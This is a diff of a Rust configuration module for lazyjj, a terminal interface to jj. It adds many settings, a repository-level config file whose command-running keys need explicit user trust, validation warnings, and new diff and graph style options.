@@ -1,10 +1,18 @@
-use std::{path::PathBuf, process::Command};
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    process::Command,
+    time::Duration,
+};
 
 use anyhow::{bail, Context, Result};
 use ratatui::style::Color;
 use serde::Deserialize;
 
-use crate::commander::{get_output_args, RemoveEndLine};
+use crate::commander::{
+    binary::{is_newer_jj_required_error, jj_config_flag, newer_jj_required_message},
+    get_output_args, RemoveEndLine,
+};
 
 // TODO: After 0.18, remove Config and replace with JjConfig
 #[derive(Deserialize, Debug, Clone, Default)]
@@ -15,8 +23,75 @@ pub struct Config {
     lazyjj_diff_format: Option<DiffFormat>,
     #[serde(rename = "lazyjj.bookmark-prefix")]
     lazyjj_bookmark_prefix: Option<String>,
+    #[serde(rename = "lazyjj.push-empty-description-check")]
+    lazyjj_push_empty_description_check: Option<bool>,
+    #[serde(rename = "lazyjj.graph-style")]
+    lazyjj_graph_style: Option<GraphStyle>,
+    #[serde(rename = "lazyjj.decoration-command")]
+    lazyjj_decoration_command: Option<String>,
+    #[serde(rename = "lazyjj.decoration-ttl")]
+    lazyjj_decoration_ttl: Option<u64>,
+    #[serde(rename = "lazyjj.event-fifo")]
+    lazyjj_event_fifo: Option<String>,
+    #[serde(rename = "lazyjj.auto-git-export")]
+    lazyjj_auto_git_export: Option<bool>,
+    #[serde(rename = "lazyjj.log-stat-badges")]
+    lazyjj_log_stat_badges: Option<bool>,
+    #[serde(rename = "lazyjj.shorten-paths")]
+    lazyjj_shorten_paths: Option<bool>,
+    #[serde(rename = "lazyjj.stack-breadcrumb")]
+    lazyjj_stack_breadcrumb: Option<bool>,
+    #[serde(rename = "lazyjj.show-relatives")]
+    lazyjj_show_relatives: Option<bool>,
+    #[serde(rename = "lazyjj.panel-hints")]
+    lazyjj_panel_hints: Option<bool>,
+    #[serde(rename = "lazyjj.use-external-editor")]
+    lazyjj_use_external_editor: Option<bool>,
+    #[serde(rename = "lazyjj.wip-prefix")]
+    lazyjj_wip_prefix: Option<String>,
+    #[serde(rename = "lazyjj.log-wip-chips")]
+    lazyjj_log_wip_chips: Option<bool>,
+    #[serde(rename = "lazyjj.hide-immutable-actions")]
+    lazyjj_hide_immutable_actions: Option<bool>,
+    #[serde(rename = "lazyjj.dismissed-warnings")]
+    lazyjj_dismissed_warnings: Option<Vec<String>>,
+    #[serde(rename = "lazyjj.diff-format-scope")]
+    lazyjj_diff_format_scope: Option<DiffFormatScope>,
+    #[serde(rename = "lazyjj.diff-tools")]
+    lazyjj_diff_tools: Option<Vec<String>>,
+    #[serde(rename = "lazyjj.web-view-url-templates")]
+    lazyjj_web_view_url_templates: Option<Vec<String>>,
+    #[serde(rename = "lazyjj.selection-style")]
+    lazyjj_selection_style: Option<SelectionStyle>,
+    #[serde(rename = "lazyjj.reduce-color")]
+    lazyjj_reduce_color: Option<bool>,
+    #[serde(rename = "lazyjj.transient-retries")]
+    lazyjj_transient_retries: Option<usize>,
+    #[serde(rename = "lazyjj.show-all-remote-bookmarks")]
+    lazyjj_show_all_remote_bookmarks: Option<bool>,
+    #[serde(rename = "lazyjj.push-status")]
+    lazyjj_push_status: Option<PushStatus>,
+    #[serde(rename = "lazyjj.graph-node-working-copy")]
+    lazyjj_graph_node_working_copy: Option<String>,
+    #[serde(rename = "lazyjj.graph-node-immutable")]
+    lazyjj_graph_node_immutable: Option<String>,
+    #[serde(rename = "lazyjj.graph-node-normal")]
+    lazyjj_graph_node_normal: Option<String>,
+    #[serde(rename = "lazyjj.graph-node-conflicted")]
+    lazyjj_graph_node_conflicted: Option<String>,
+    #[serde(rename = "lazyjj.default-revset")]
+    lazyjj_default_revset: Option<String>,
     #[serde(rename = "ui.diff.format")]
     ui_diff_format: Option<DiffFormat>,
+    #[serde(rename = "ui.graph.style")]
+    ui_graph_style: Option<String>,
+    #[serde(rename = "ui.color")]
+    ui_color: Option<String>,
+    #[serde(rename = "ui.paginate")]
+    ui_paginate: Option<String>,
+    // A command string, an array of arguments, or a table with a `command`
+    #[serde(rename = "ui.pager")]
+    ui_pager: Option<toml::Value>,
     #[serde(rename = "git.push-bookmark-prefix")]
     git_push_bookmark_prefix: Option<String>,
 }
@@ -35,12 +110,45 @@ pub struct JjConfigLazyjj {
     highlight_color: Option<Color>,
     diff_format: Option<DiffFormat>,
     bookmark_prefix: Option<String>,
+    push_empty_description_check: Option<bool>,
+    graph_style: Option<GraphStyle>,
+    decoration_command: Option<String>,
+    decoration_ttl: Option<u64>,
+    event_fifo: Option<String>,
+    auto_git_export: Option<bool>,
+    shorten_paths: Option<bool>,
+    log_stat_badges: Option<bool>,
+    stack_breadcrumb: Option<bool>,
+    show_relatives: Option<bool>,
+    panel_hints: Option<bool>,
+    use_external_editor: Option<bool>,
+    wip_prefix: Option<String>,
+    log_wip_chips: Option<bool>,
+    hide_immutable_actions: Option<bool>,
+    dismissed_warnings: Option<Vec<String>>,
+    diff_format_scope: Option<DiffFormatScope>,
+    diff_tools: Option<Vec<String>>,
+    web_view_url_templates: Option<Vec<String>>,
+    selection_style: Option<SelectionStyle>,
+    reduce_color: Option<bool>,
+    transient_retries: Option<usize>,
+    show_all_remote_bookmarks: Option<bool>,
+    push_status: Option<PushStatus>,
+    graph_node_working_copy: Option<String>,
+    graph_node_immutable: Option<String>,
+    graph_node_normal: Option<String>,
+    graph_node_conflicted: Option<String>,
+    default_revset: Option<String>,
 }
 
 #[derive(Deserialize, Debug, Clone, Default)]
 #[serde(rename_all = "kebab-case")]
 pub struct JjConfigUi {
     diff: Option<JjConfigUiDiff>,
+    graph: Option<JjConfigUiGraph>,
+    color: Option<String>,
+    paginate: Option<String>,
+    pager: Option<toml::Value>,
 }
 
 #[derive(Deserialize, Debug, Clone, Default)]
@@ -49,6 +157,12 @@ pub struct JjConfigUiDiff {
     format: Option<DiffFormat>,
 }
 
+#[derive(Deserialize, Debug, Clone, Default)]
+#[serde(rename_all = "kebab-case")]
+pub struct JjConfigUiGraph {
+    style: Option<String>,
+}
+
 #[derive(Deserialize, Debug, Clone, Default)]
 #[serde(rename_all = "kebab-case")]
 pub struct JjConfigGit {
@@ -58,7 +172,9 @@ pub struct JjConfigGit {
 impl Config {
     pub fn diff_format(&self) -> DiffFormat {
         self.lazyjj_diff_format
-            .unwrap_or(self.ui_diff_format.unwrap_or(DiffFormat::ColorWords))
+            .clone()
+            .or(self.ui_diff_format.clone())
+            .unwrap_or(DiffFormat::ColorWords)
     }
 
     pub fn highlight_color(&self) -> Color {
@@ -73,6 +189,404 @@ impl Config {
                 .unwrap_or("push-".to_owned()),
         )
     }
+
+    pub fn push_empty_description_check(&self) -> bool {
+        self.lazyjj_push_empty_description_check.unwrap_or(true)
+    }
+
+    pub fn graph_style(&self) -> GraphStyle {
+        self.lazyjj_graph_style.unwrap_or_else(|| {
+            let locale = ["LC_ALL", "LC_CTYPE", "LANG"]
+                .into_iter()
+                .filter_map(|name| std::env::var(name).ok())
+                .find(|value| !value.is_empty());
+            detect_graph_style(locale.as_deref())
+        })
+    }
+
+    /// Whether to convert the log graph to Unicode, when `lazyjj.graph-style` is set to `unicode`
+    /// but jj's `ui.graph.style` is ASCII.
+    pub fn unicode_graph(&self) -> bool {
+        self.lazyjj_graph_style == Some(GraphStyle::Unicode)
+            && self
+                .ui_graph_style
+                .as_ref()
+                .is_some_and(|style| style.starts_with("ascii"))
+    }
+
+    pub fn decoration_command(&self) -> Option<String> {
+        self.lazyjj_decoration_command
+            .clone()
+            .filter(|command| !command.trim().is_empty())
+    }
+
+    pub fn decoration_ttl(&self) -> Duration {
+        Duration::from_secs(self.lazyjj_decoration_ttl.unwrap_or(300))
+    }
+
+    pub fn auto_git_export(&self) -> bool {
+        self.lazyjj_auto_git_export.unwrap_or(false)
+    }
+
+    pub fn log_stat_badges(&self) -> bool {
+        self.lazyjj_log_stat_badges.unwrap_or(false)
+    }
+
+    pub fn shorten_paths(&self) -> bool {
+        self.lazyjj_shorten_paths.unwrap_or(false)
+    }
+
+    pub fn stack_breadcrumb(&self) -> bool {
+        self.lazyjj_stack_breadcrumb.unwrap_or(false)
+    }
+
+    /// Whether the log tab lists the parents and children of the selected change in its details.
+    pub fn show_relatives(&self) -> bool {
+        self.lazyjj_show_relatives.unwrap_or(false)
+    }
+
+    /// Whether panels show what Enter does, or where they were opened from, in their bottom
+    /// border.
+    pub fn panel_hints(&self) -> bool {
+        self.lazyjj_panel_hints.unwrap_or(true)
+    }
+
+    /// Whether `d` in the log describes with jj's editor instead of the describe textarea.
+    pub fn use_external_editor(&self) -> bool {
+        self.lazyjj_use_external_editor.unwrap_or(false)
+    }
+
+    /// Description prefix marking a change as work in progress, toggled with `Ctrl+w` in the log.
+    /// Empty to disable WIP handling.
+    pub fn wip_prefix(&self) -> &str {
+        self.lazyjj_wip_prefix.as_deref().unwrap_or("wip: ")
+    }
+
+    /// Whether changes marked as WIP get a chip in the log, costing a jj call per refresh.
+    pub fn log_wip_chips(&self) -> bool {
+        self.lazyjj_log_wip_chips.unwrap_or(false)
+    }
+
+    /// Whether actions which can't apply to an immutable change are hidden from the log's help
+    /// when it is selected, and refused with a notification instead of a popup.
+    pub fn hide_immutable_actions(&self) -> bool {
+        self.lazyjj_hide_immutable_actions.unwrap_or(false)
+    }
+
+    /// Whether cycling the diff format with `w` changes all tabs or only the current one.
+    pub fn diff_format_scope(&self) -> DiffFormatScope {
+        self.lazyjj_diff_format_scope.unwrap_or_default()
+    }
+
+    /// External diff tools to cycle through with the builtin diff formats.
+    pub fn diff_tools(&self) -> &[String] {
+        self.lazyjj_diff_tools.as_deref().unwrap_or_default()
+    }
+
+    /// URL templates to open the selected change in a browser with.
+    pub fn web_view_url_templates(&self) -> &[String] {
+        self.lazyjj_web_view_url_templates
+            .as_deref()
+            .unwrap_or_default()
+    }
+
+    pub fn selection_style(&self) -> SelectionStyle {
+        self.lazyjj_selection_style.unwrap_or_default()
+    }
+
+    /// Times to retry jj commands which failed because another jj process was running.
+    pub fn transient_retries(&self) -> usize {
+        self.lazyjj_transient_retries.unwrap_or(2)
+    }
+
+    /// Whether to show every remote bookmark of changes in the log, even when in sync.
+    pub fn show_all_remote_bookmarks(&self) -> bool {
+        self.lazyjj_show_all_remote_bookmarks.unwrap_or(false)
+    }
+
+    pub fn push_status(&self) -> PushStatus {
+        self.lazyjj_push_status.unwrap_or_default()
+    }
+
+    /// Symbols replacing the nodes of the log graph. Unset nodes are kept as rendered by jj.
+    pub fn graph_nodes(&self) -> GraphNodes {
+        GraphNodes {
+            working_copy: self.lazyjj_graph_node_working_copy.clone(),
+            immutable: self.lazyjj_graph_node_immutable.clone(),
+            normal: self.lazyjj_graph_node_normal.clone(),
+            conflicted: self.lazyjj_graph_node_conflicted.clone(),
+        }
+    }
+
+    /// Revset of the log when lazyjj is started without `-r`. Defaults to jj's `revsets.log`.
+    pub fn default_revset(&self) -> Option<&str> {
+        self.lazyjj_default_revset.as_deref()
+    }
+
+    /// Whether to only use colors with a meaning, such as for added and removed lines.
+    pub fn reduce_color(&self) -> bool {
+        self.lazyjj_reduce_color.unwrap_or(false)
+    }
+
+    /// IDs of health warnings which shouldn't be shown again.
+    pub fn dismissed_warnings(&self) -> &[String] {
+        self.lazyjj_dismissed_warnings
+            .as_deref()
+            .unwrap_or_default()
+    }
+
+    /// jj's `ui.color`, if set.
+    pub fn ui_color(&self) -> Option<&str> {
+        self.ui_color.as_deref()
+    }
+
+    /// jj's `ui.paginate`, if set.
+    pub fn ui_paginate(&self) -> Option<&str> {
+        self.ui_paginate.as_deref()
+    }
+
+    /// jj's `ui.pager` as a command line, if set.
+    pub fn ui_pager(&self) -> Option<String> {
+        let join = |args: &Vec<toml::Value>| {
+            args.iter()
+                .filter_map(|arg| arg.as_str())
+                .collect::<Vec<_>>()
+                .join(" ")
+        };
+        match self.ui_pager.as_ref()? {
+            toml::Value::String(command) => Some(command.clone()),
+            toml::Value::Array(args) => Some(join(args)),
+            toml::Value::Table(table) => table.get("command").and_then(|command| match command {
+                toml::Value::String(command) => Some(command.clone()),
+                toml::Value::Array(args) => Some(join(args)),
+                _ => None,
+            }),
+            _ => None,
+        }
+    }
+
+    /// Path to write events to. `LAZYJJ_EVENTS` takes precedence over `lazyjj.event-fifo`.
+    pub fn event_path(&self) -> Option<PathBuf> {
+        std::env::var("LAZYJJ_EVENTS")
+            .ok()
+            .or(self.lazyjj_event_fifo.clone())
+            .filter(|path| !path.is_empty())
+            .map(PathBuf::from)
+    }
+}
+
+// Use ASCII when the locale is set but isn't UTF-8
+fn detect_graph_style(locale: Option<&str>) -> GraphStyle {
+    match locale {
+        Some(locale) => {
+            let locale = locale.to_lowercase();
+            if locale.contains("utf-8") || locale.contains("utf8") {
+                GraphStyle::Unicode
+            } else {
+                GraphStyle::Ascii
+            }
+        }
+        None => GraphStyle::Unicode,
+    }
+}
+
+// Most retries of transient jj failures. Each waits longer than the previous one
+const MAX_TRANSIENT_RETRIES: usize = 10;
+
+/// A config value which was ignored because it is invalid, such as an unknown diff format or an
+/// out of range number. The default is used instead.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ConfigWarning {
+    pub key: String,
+    pub value: String,
+    pub message: String,
+}
+
+impl ConfigWarning {
+    fn new(key: &str, value: impl ToString, message: impl ToString) -> Self {
+        Self {
+            key: key.to_owned(),
+            value: value.to_string(),
+            message: message.to_string(),
+        }
+    }
+}
+
+impl std::fmt::Display for ConfigWarning {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        // Errors of a whole file have no value
+        if self.value.is_empty() {
+            write!(f, "{}: {}", self.key, self.message)
+        } else {
+            write!(f, "{} = {}: {}", self.key, self.value, self.message)
+        }
+    }
+}
+
+/// Config file in the repository root with lazyjj settings shared by everyone working on it, in
+/// the same format as jj config, such as `lazyjj.diff-format = "git"`.
+pub const REPO_CONFIG_FILE: &str = ".lazyjj.toml";
+
+// Settings which run commands or write files, only read from the repository's config file if the
+// user trusts it with `lazyjj.trust-repo-config`, as the file comes with the repository
+const SENSITIVE_KEYS: &[&str] = &["lazyjj.decoration-command", "lazyjj.event-fifo"];
+
+// The `lazyjj` settings of a TOML config, keyed by full names such as `lazyjj.diff-format`, as in
+// `jj config list` output
+fn lazyjj_entries(table: toml::Table) -> toml::Table {
+    table
+        .into_iter()
+        .filter_map(|(key, value)| match (key.as_str(), value) {
+            ("lazyjj", toml::Value::Table(lazyjj)) => Some(lazyjj),
+            _ => None,
+        })
+        .flatten()
+        .map(|(key, value)| (format!("lazyjj.{key}"), value))
+        .collect()
+}
+
+// Entries of a config table which parse, and a warning for each other one. Invalid values are
+// skipped instead of failing, so one typo doesn't prevent lazyjj from starting
+fn valid_entries(table: toml::Table) -> (toml::Table, Vec<ConfigWarning>) {
+    let mut warnings = vec![];
+    let valid = table
+        .into_iter()
+        .filter(|(key, value)| {
+            let single = toml::Table::from_iter([(key.clone(), value.clone())]);
+            match single.try_into::<Config>() {
+                Ok(_) => true,
+                Err(err) => {
+                    warnings.push(ConfigWarning::new(key, value, err.message()));
+                    false
+                }
+            }
+        })
+        .collect();
+    (valid, warnings)
+}
+
+/// Merge the layers of config, each overriding the previous one: the user's jj config (which
+/// includes `--jj-config`), the repository's `.lazyjj.toml`, then `--jj-config` again, so
+/// command line settings still win. Unset settings use their default.
+///
+/// The repository's file is skipped with a warning if it doesn't parse. Only its `lazyjj`
+/// settings are used, without the sensitive ones unless the user's config trusts it.
+pub fn merge_config_layers(
+    user: toml::Table,
+    repo_config: Option<&str>,
+    jj_config: &[String],
+) -> (Config, Vec<ConfigWarning>) {
+    let trust_repo_config = user
+        .get("lazyjj.trust-repo-config")
+        .and_then(toml::Value::as_bool)
+        .unwrap_or(false);
+    let (mut merged, mut warnings) = valid_entries(user);
+
+    if let Some(repo_config) = repo_config {
+        match toml::from_str::<toml::Table>(repo_config) {
+            Ok(table) => {
+                for key in table.keys().filter(|key| *key != "lazyjj") {
+                    warnings.push(ConfigWarning::new(
+                        &format!("{REPO_CONFIG_FILE}: {key}"),
+                        "",
+                        "only lazyjj settings can be set, so it was skipped",
+                    ));
+                }
+                let (repo, repo_warnings) = valid_entries(lazyjj_entries(table));
+                warnings.extend(repo_warnings);
+                for (key, value) in repo {
+                    if !trust_repo_config && SENSITIVE_KEYS.contains(&key.as_str()) {
+                        warnings.push(ConfigWarning::new(
+                            &key,
+                            value,
+                            format!(
+                                "skipped from {REPO_CONFIG_FILE}, set lazyjj.trust-repo-config to \
+                                 true in your jj config to allow it"
+                            ),
+                        ));
+                        continue;
+                    }
+                    merged.insert(key, value);
+                }
+            }
+            Err(err) => warnings.push(ConfigWarning::new(
+                REPO_CONFIG_FILE,
+                "",
+                format!("skipped, as it failed to parse: {}", err.message()),
+            )),
+        }
+    }
+
+    // Already validated with the user's config. jj fails on invalid TOML, so none is skipped
+    for jj_config in jj_config {
+        if let Ok(table) = toml::from_str::<toml::Table>(jj_config) {
+            let (cli, _) = valid_entries(lazyjj_entries(table));
+            merged.extend(cli);
+        }
+    }
+
+    // Each value was parsed on its own, so they parse together
+    (merged.try_into().unwrap_or_default(), warnings)
+}
+
+impl Config {
+    /// Check the values which parse but are out of range, resetting them to their default.
+    pub fn validate(&mut self) -> Vec<ConfigWarning> {
+        let mut warnings = vec![];
+
+        if let Some(retries) = self
+            .lazyjj_transient_retries
+            .filter(|retries| *retries > MAX_TRANSIENT_RETRIES)
+        {
+            warnings.push(ConfigWarning::new(
+                "lazyjj.transient-retries",
+                retries,
+                format!("must be at most {MAX_TRANSIENT_RETRIES}"),
+            ));
+            self.lazyjj_transient_retries = None;
+        }
+
+        for (key, node) in [
+            (
+                "lazyjj.graph-node-working-copy",
+                &mut self.lazyjj_graph_node_working_copy,
+            ),
+            (
+                "lazyjj.graph-node-immutable",
+                &mut self.lazyjj_graph_node_immutable,
+            ),
+            (
+                "lazyjj.graph-node-normal",
+                &mut self.lazyjj_graph_node_normal,
+            ),
+            (
+                "lazyjj.graph-node-conflicted",
+                &mut self.lazyjj_graph_node_conflicted,
+            ),
+        ] {
+            // Other lengths would misalign the graph
+            if let Some(symbol) = node.take_if(|symbol| symbol.chars().count() != 1) {
+                warnings.push(ConfigWarning::new(
+                    key,
+                    format!("{symbol:?}"),
+                    "must be a single character",
+                ));
+            }
+        }
+
+        if let Some(tools) = self.lazyjj_diff_tools.as_mut() {
+            if tools.iter().any(|tool| tool.trim().is_empty()) {
+                warnings.push(ConfigWarning::new(
+                    "lazyjj.diff-tools",
+                    format!("{tools:?}"),
+                    "tool names can't be empty, so they were skipped",
+                ));
+                tools.retain(|tool| !tool.trim().is_empty());
+            }
+        }
+
+        warnings
+    }
 }
 
 #[derive(Debug, Clone)]
@@ -80,17 +594,42 @@ pub struct Env {
     pub config: Config,
     pub root: String,
     pub default_revset: Option<String>,
+    // `NAME=VALUE` config passed to every jj command, from `--jj-config` or `LAZYJJ_JJ_CONFIG`
+    pub jj_config: Vec<String>,
+    // Flag passing config to jj, depending on its version
+    pub jj_config_flag: &'static str,
+    // Config values which were ignored, shown at startup
+    pub config_warnings: Vec<ConfigWarning>,
+}
+
+// Config flag arguments for each config, as separate arguments so they aren't re-quoted
+fn config_args<'a>(flag: &'a str, jj_config: &'a [String]) -> Vec<&'a str> {
+    jj_config
+        .iter()
+        .flat_map(|config| [flag, config.as_str()])
+        .collect()
 }
 
 impl Env {
-    pub fn new(path: PathBuf, default_revset: Option<String>) -> Result<Env> {
+    pub fn new(
+        path: PathBuf,
+        default_revset: Option<String>,
+        jj_config: Vec<String>,
+    ) -> Result<Env> {
+        let jj_config_flag = jj_config_flag();
+
         // Get jj repository root
         let root_output = Command::new("jj")
             .arg("root")
             .args(get_output_args(false, true))
+            .args(config_args(jj_config_flag, &jj_config))
             .current_dir(&path)
             .output()?;
         if !root_output.status.success() {
+            let stderr = String::from_utf8_lossy(&root_output.stderr);
+            if is_newer_jj_required_error(&stderr) {
+                bail!(newer_jj_required_message(&stderr))
+            }
             bail!("No jj repository found in {}", path.to_str().unwrap_or(""))
         }
         let root = String::from_utf8(root_output.stdout)?.remove_end_line();
@@ -103,59 +642,212 @@ impl Env {
                 .arg("--template")
                 .arg("'\"' ++ name ++ '\"' ++ '=' ++ value ++ '\n'")
                 .args(get_output_args(false, true))
+                .args(config_args(jj_config_flag, &jj_config))
                 .current_dir(&root)
                 .output()
                 .context("Failed to get jj config")?
                 .stdout,
         )?;
-        // Prior to https://github.com/martinvonz/jj/pull/3728, keys were not TOML-escaped.
-        let config = match toml::from_str::<Config>(&config_toml) {
-            Ok(config) => config,
-            Err(_) => {
-                let config_toml = String::from_utf8(
-                    Command::new("jj")
-                        .arg("config")
-                        .arg("list")
-                        .args(get_output_args(false, true))
-                        .current_dir(&root)
-                        .output()
-                        .context("Failed to get jj config")?
-                        .stdout,
-                )?;
-                toml::from_str::<JjConfig>(&config_toml)
-                    .context("Failed to parse jj config")
-                    .map(|config| Config {
-                        lazyjj_highlight_color: config
-                            .lazyjj
-                            .as_ref()
-                            .and_then(|lazyjj| lazyjj.highlight_color),
-                        lazyjj_diff_format: config
-                            .lazyjj
-                            .as_ref()
-                            .and_then(|lazyjj| lazyjj.diff_format),
-                        lazyjj_bookmark_prefix: config
-                            .lazyjj
-                            .as_ref()
-                            .and_then(|lazyjj| lazyjj.bookmark_prefix.clone()),
-                        ui_diff_format: config
-                            .ui
-                            .and_then(|ui| ui.diff.and_then(|diff| diff.format)),
-                        git_push_bookmark_prefix: config
-                            .git
-                            .and_then(|git| git.push_bookmark_prefix),
-                    })?
-            }
-        };
+        // Prior to https://github.com/martinvonz/jj/pull/3728, keys were not TOML-escaped. The
+        // repository's config file is only read with newer jj.
+        let repo_config_path = Path::new(&root).join(REPO_CONFIG_FILE);
+        let (mut config, mut config_warnings) =
+            match toml::from_str::<toml::Table>(&config_toml) {
+                Ok(table) => {
+                    let repo_config = fs::read_to_string(&repo_config_path).ok();
+                    merge_config_layers(table, repo_config.as_deref(), &jj_config)
+                }
+                Err(_) => {
+                    let config_toml = String::from_utf8(
+                        Command::new("jj")
+                            .arg("config")
+                            .arg("list")
+                            .args(get_output_args(false, true))
+                            .args(config_args(jj_config_flag, &jj_config))
+                            .current_dir(&root)
+                            .output()
+                            .context("Failed to get jj config")?
+                            .stdout,
+                    )?;
+                    toml::from_str::<JjConfig>(&config_toml)
+                        .context("Failed to parse jj config")
+                        .map(|config| Config {
+                            lazyjj_highlight_color: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.highlight_color),
+                            lazyjj_diff_format: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.diff_format.clone()),
+                            lazyjj_bookmark_prefix: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.bookmark_prefix.clone()),
+                            lazyjj_push_empty_description_check: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.push_empty_description_check),
+                            lazyjj_graph_style: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.graph_style),
+                            lazyjj_decoration_command: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.decoration_command.clone()),
+                            lazyjj_decoration_ttl: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.decoration_ttl),
+                            lazyjj_event_fifo: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.event_fifo.clone()),
+                            lazyjj_auto_git_export: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.auto_git_export),
+                            lazyjj_log_stat_badges: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.log_stat_badges),
+                            lazyjj_shorten_paths: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.shorten_paths),
+                            lazyjj_stack_breadcrumb: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.stack_breadcrumb),
+                            lazyjj_show_relatives: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.show_relatives),
+                            lazyjj_panel_hints: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.panel_hints),
+                            lazyjj_use_external_editor: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.use_external_editor),
+                            lazyjj_wip_prefix: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.wip_prefix.clone()),
+                            lazyjj_log_wip_chips: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.log_wip_chips),
+                            lazyjj_hide_immutable_actions: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.hide_immutable_actions),
+                            lazyjj_dismissed_warnings: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.dismissed_warnings.clone()),
+                            lazyjj_diff_format_scope: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.diff_format_scope),
+                            lazyjj_diff_tools: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.diff_tools.clone()),
+                            lazyjj_web_view_url_templates: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.web_view_url_templates.clone()),
+                            lazyjj_selection_style: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.selection_style),
+                            lazyjj_reduce_color: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.reduce_color),
+                            lazyjj_transient_retries: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.transient_retries),
+                            lazyjj_show_all_remote_bookmarks: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.show_all_remote_bookmarks),
+                            lazyjj_push_status: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.push_status),
+                            lazyjj_graph_node_working_copy: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.graph_node_working_copy.clone()),
+                            lazyjj_graph_node_immutable: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.graph_node_immutable.clone()),
+                            lazyjj_graph_node_normal: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.graph_node_normal.clone()),
+                            lazyjj_graph_node_conflicted: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.graph_node_conflicted.clone()),
+                            lazyjj_default_revset: config
+                                .lazyjj
+                                .as_ref()
+                                .and_then(|lazyjj| lazyjj.default_revset.clone()),
+                            ui_diff_format: config.ui.as_ref().and_then(|ui| {
+                                ui.diff.as_ref().and_then(|diff| diff.format.clone())
+                            }),
+                            ui_graph_style: config.ui.as_ref().and_then(|ui| {
+                                ui.graph.as_ref().and_then(|graph| graph.style.clone())
+                            }),
+                            ui_color: config.ui.as_ref().and_then(|ui| ui.color.clone()),
+                            ui_paginate: config.ui.as_ref().and_then(|ui| ui.paginate.clone()),
+                            ui_pager: config.ui.and_then(|ui| ui.pager),
+                            git_push_bookmark_prefix: config
+                                .git
+                                .and_then(|git| git.push_bookmark_prefix),
+                        })
+                        .map(|config| {
+                            let warnings = if repo_config_path.exists() {
+                                vec![ConfigWarning::new(
+                                    REPO_CONFIG_FILE,
+                                    "",
+                                    "skipped, as it is only read with jj 0.18 or newer",
+                                )]
+                            } else {
+                                vec![]
+                            };
+                            (config, warnings)
+                        })?
+                }
+            };
+        config_warnings.extend(config.validate());
+        let default_revset =
+            default_revset.or_else(|| config.default_revset().map(|revset| revset.to_owned()));
 
         Ok(Env {
             root,
             config,
             default_revset,
+            jj_config,
+            jj_config_flag,
+            config_warnings,
         })
     }
+
+    /// Arguments passing the `--jj-config` overrides to a jj command.
+    pub fn jj_config_args(&self) -> Vec<&str> {
+        config_args(self.jj_config_flag, &self.jj_config)
+    }
 }
 
-#[derive(Clone, Debug, Deserialize, Default, Copy, PartialEq)]
+#[derive(Clone, Debug, Deserialize, Default, PartialEq, Eq, Hash)]
 #[serde(rename_all = "kebab-case")]
 pub enum DiffFormat {
     #[default]
@@ -163,4 +855,234 @@ pub enum DiffFormat {
     Git,
     Summary,
     Stat,
+    SideBySide,
+    // Git diff with the changed characters of each line highlighted
+    CharLevel,
+    // External tool from `lazyjj.diff-tools`, passed with `--tool`
+    DiffTool(String),
+}
+
+#[derive(Clone, Debug, Deserialize, Copy, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum GraphStyle {
+    Unicode,
+    Ascii,
+}
+
+/// Symbols for the nodes of the log graph, by the kind of change, from `lazyjj.graph-node-*`.
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct GraphNodes {
+    pub working_copy: Option<String>,
+    pub immutable: Option<String>,
+    pub normal: Option<String>,
+    pub conflicted: Option<String>,
+}
+
+impl GraphNodes {
+    pub fn is_empty(&self) -> bool {
+        self == &GraphNodes::default()
+    }
+}
+
+/// Whether changing the diff format applies to the current tab only, or to all tabs.
+#[derive(Clone, Debug, Deserialize, Copy, Default, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum DiffFormatScope {
+    #[default]
+    PerTab,
+    Global,
+}
+
+/// Which changes of the log are marked by whether they exist on a remote.
+#[derive(Clone, Debug, Deserialize, Copy, Default, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum PushStatus {
+    #[default]
+    None,
+    Unpushed,
+    Pushed,
+}
+
+/// How the selected line of lists is shown.
